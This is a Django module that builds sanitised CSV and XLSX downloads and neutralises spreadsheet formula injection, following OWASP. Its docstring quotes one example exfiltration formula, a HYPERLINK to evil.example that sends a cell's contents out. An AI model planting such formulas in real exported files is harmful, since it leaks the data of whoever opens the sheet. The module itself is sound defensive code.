"""Spreadsheet downloads (CSV and XLSX) for every app of the portal.

What visitors and partners type ends up in these files, and a spreadsheet reads a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula
(`=HYPERLINK("http://evil.example/?x="&A1,"klik")` leaks the sheet to whoever opens
it). Following OWASP ("CSV Injection"), such a text cell gets a leading apostrophe:
still readable, never evaluated. Numbers, dates and empty cells stay as they are.

Every export goes through `csv_response` or `xlsx_response` (or at least
`safe_row`): do not write `csv.writer` rows of user data yourself.
"""

import csv
import io
from collections.abc import Iterable, Sequence

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """`value` as a spreadsheet may show it: a list becomes "a, b"; text that a
    spreadsheet would start a formula with gets a leading apostrophe."""
    if isinstance(value, list | tuple):
        value = ", ".join(str(v) for v in value)
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def attachment(response, filename):
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class _Echo:
    """A file-like object for csv.writer that hands back what it is given."""

    def write(self, value):
        return value


def csv_response(name: str, headers: Sequence, rows: Iterable[Iterable]):
    """A streamed CSV download `<name>.csv` (UTF-8 with a BOM, which Excel needs)."""
    writer = csv.writer(_Echo())

    def lines():
        yield "\ufeff" + writer.writerow(safe_row(headers))
        for row in rows:
            yield writer.writerow(safe_row(row))

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    return attachment(response, f"{name}.csv")


def xlsx_response(
    name: str, headers: Sequence, rows: Iterable[Iterable], *, title: str = ""
):
    """An XLSX download `<name>.xlsx` with one sheet. Text cells are typed as text
    (and prefixed as in CSV, for those who copy them on as CSV): never a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=(title or name)[:31])

    def cells(row):
        result = []
        for value in safe_row(row):
            cell = WriteOnlyCell(sheet, value=value)
            if isinstance(value, str):
                cell.data_type = "s"  # openpyxl would take "=…" for a formula
            result.append(cell)
        return result

    sheet.append(cells(headers))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return attachment(
        HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE), f"{name}.xlsx"
    )
